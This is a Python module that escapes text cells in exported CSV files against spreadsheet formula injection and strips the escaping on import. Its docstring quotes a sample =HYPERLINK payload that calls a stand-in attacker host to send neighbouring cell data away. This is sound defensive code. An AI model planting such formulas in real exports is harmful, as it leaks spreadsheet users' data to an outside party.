"""Cells of the CSV files Dosewise writes, safe to open in a spreadsheet, and read back exactly.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and some also after a tab or a carriage return: a note typed as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would become a link that sends the
neighbouring cells away (CSV or formula injection). Every **text** value written to a CSV file
goes through :func:`write_cell`: one that starts with one of those characters, or with a
single quote, gets a single quote in front (the OWASP advice; a spreadsheet shows the text as
text). :func:`read_text_cell` takes exactly that quote off again, so an import gives back the
text as it was typed, ``'`` and ``=`` included.

Only text is changed. Numbers, times and flags are written as they are (``-500`` stays a
number in a spreadsheet, and a time starts with a digit): the type of the value decides, not
the look of the cell. docs/export-formats.md says the same for the people who read the files.
"""

from __future__ import annotations

from datetime import date, datetime
from typing import Any

# What a spreadsheet may read as the start of a formula, and the quote that marks it as text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# Written into the manifest: an import reverses the quoting only for files that say so.
ESCAPE = "leading-quote"


def write_cell(value: Any) -> str:
    """The cell for a value: empty for NULL, ISO 8601 for times, 1/0 for flags, numbers as they
    are, and text with a leading quote when it could be read as a formula (or starts with one)."""
    if value is None:
        return ""
    if isinstance(value, str):
        return QUOTE + value if value.startswith((*FORMULA_STARTS, QUOTE)) else value
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, bool):
        return "1" if value else "0"
    return str(value)


def read_text_cell(cell: str) -> str:
    """The text a cell of a text column holds: the quote :func:`write_cell` added taken off."""
    return cell[1:] if cell.startswith(QUOTE) else cell
